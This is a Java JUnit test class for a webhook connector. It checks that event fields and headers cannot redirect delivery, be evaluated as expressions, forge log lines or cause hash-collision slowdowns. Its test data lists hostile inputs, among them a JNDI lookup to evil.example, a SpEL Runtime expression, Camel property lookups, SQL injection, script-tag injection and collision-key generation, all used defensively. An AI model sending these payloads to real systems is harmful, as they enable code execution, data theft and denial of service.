package io.capstream.webhook;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.capstream.RunningConnector;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.ThreadLocalRandom;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;

/** Nothing in an event or its headers steers the connector: not where it goes, not what is evaluated, not what the log seems to say. */
@ExtendWith(OutputCaptureExtension.class)
class WhatEventsCannotDoTest extends RunningConnector {

    @ParameterizedTest
    @ValueSource(strings = {"CamelHttpUri", "camelhttpuri", "CAMELHTTPURI", "Camel-Http-Uri", "CamelHttpPath", "CamelHttpQuery", "CamelHttpMethod",
        "CamelHttpResponseCode", "camelHttpResponseCode", "CamelFileName", "CamelToEndpoint", "CamelSlipEndpoint", "CamelRedeliveryCounter",
        "CamelBeanMethodName", "org.apache.camel.uri", "kafka.OVERRIDE_TOPIC", "Authorization", "x-api-key2", "x-sandbox-name",
        "x-adobe-flow-id", "x-gw-ims-org-id", "Content-Type", "breadcrumbId"})
    void aHeaderSteersNothing(String header) throws Exception {
        String customer = customer();

        HttpResponse<String> answer = send(request("/capillary/events").header("X-Api-Key", "local-secret")
                .header(header, "http://127.0.0.1:1/elsewhere").POST(body(event(customer, "Ann"))));

        assertThat(answer.statusCode()).isEqualTo(202);
        awaitDelivery();
        assertThat(arrived(customer)).hasSize(1);
    }

    @ParameterizedTest
    @ValueSource(strings = {"${sys.user.home}", "${camelContext.stop}", "${bean:dataflows}", "{{operator.password}}", "{{env:HOME}}",
        "#{T(java.lang.Runtime).getRuntime()}", "${jndi:ldap://evil.example}", "$simple{body}", "%s%n%x", "$.eventName", "RAW(x)",
        "'; drop table event; --", "</script><script>"})
    void anExpressionInAnEventIsText(String text) throws Exception {
        String customer = customer();

        assertThat(postEvent(event(customer, text)).statusCode()).isEqualTo(202);

        awaitDelivery();
        assertThat(arrived(customer)).singleElement().satisfies(record -> assertThat(record.findValuesAsText("firstName")).contains(text));
    }

    @Test
    void anEventsNameCannotWriteALineOfTheLog(CapturedOutput log) throws Exception {
        ObjectNode event = (ObjectNode) JSON.readTree(sample("tierUpgraded"));
        event.put("eventName", "planted\n2026-11-29T00:00:00Z ERROR planted line\r\n\u001b[31mplanted");

        assertThat(postEvent(event.toString()).statusCode()).isEqualTo(202);

        awaitDelivery();
        assertThat(log.getAll().lines()).noneMatch(line -> line.startsWith("2026-11-29T00:00:00Z") || line.startsWith("\u001b[31mplanted"));
    }

    @Test
    void namesThatShareAHashCostNoMoreThanOthers() throws Exception {
        StringBuilder members = new StringBuilder();
        for (int number = 0; number < 1 << 14; number++) {
            StringBuilder name = new StringBuilder();
            for (int bit = 0; bit < 14; bit++) {
                name.append((number >> bit & 1) == 0 ? "Aa" : "BB");
            }
            members.append('"').append(name).append("\":1,");
        }

        assertThat(postEvent("{" + members + sample("tierUpgraded").substring(1)).body()).contains("\"accepted\":1");

        awaitDelivery();
    }

    private List<JsonNode> arrived(String customer) throws Exception {
        List<JsonNode> found = new ArrayList<>();
        for (JsonNode record : JSON.readTree(send(request("/local-platform/records?inlet=profiles&limit=1000")).body())) {
            if (record.toString().contains(customer)) {
                found.add(record);
            }
        }
        return found;
    }

    private static String customer() {
        return String.valueOf(ThreadLocalRandom.current().nextLong(1_000_000_000L, 9_000_000_000L));
    }

    private static String event(String customer, String firstName) throws Exception {
        ObjectNode event = (ObjectNode) JSON.readTree(sample("customerAdded"));
        event.put("eventId", UUID.randomUUID().toString());
        ObjectNode data = (ObjectNode) event.path("data");
        data.put("firstName", firstName);
        return event.toString().replaceFirst("\"customerId\":\\d+", "\"customerId\":" + customer);
    }
}
